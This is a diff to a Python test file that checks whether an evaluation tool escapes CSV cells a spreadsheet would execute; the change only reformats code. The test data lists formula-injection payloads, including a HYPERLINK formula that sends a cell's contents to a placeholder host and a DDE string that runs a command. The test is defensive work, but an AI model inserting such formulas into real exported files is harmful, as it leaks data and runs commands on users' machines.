@@ -15,8 +15,14 @@ from vx.evaluation import FORMULA_STARTS, csv_cell, write_rows
 
 from .test_bad_input import assert_error, eval_locked, fam, run  # noqa: F401 (fixture)
 
-FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("split", ["locked", "dev"])
@@ -32,7 +38,7 @@ def test_an_empty_split_is_an_error(fam: Path, split: str) -> None:  # noqa: F81
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(fam: Path, tmp_path: Path) -> None:  # noqa: F811
     rows = [json.loads(line) for line in (fam / "locked.jsonl").read_text(encoding="utf-8").splitlines()] * 2
-    rows = [dict(r) for r in rows[:len(FORMULAS)]]
+    rows = [dict(r) for r in rows[: len(FORMULAS)]]
     for row, formula in zip(rows, FORMULAS):
         row["id"] = formula  # an item id is the family file's text (the rows carry ids, labels, op messages)
     (fam / "locked.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
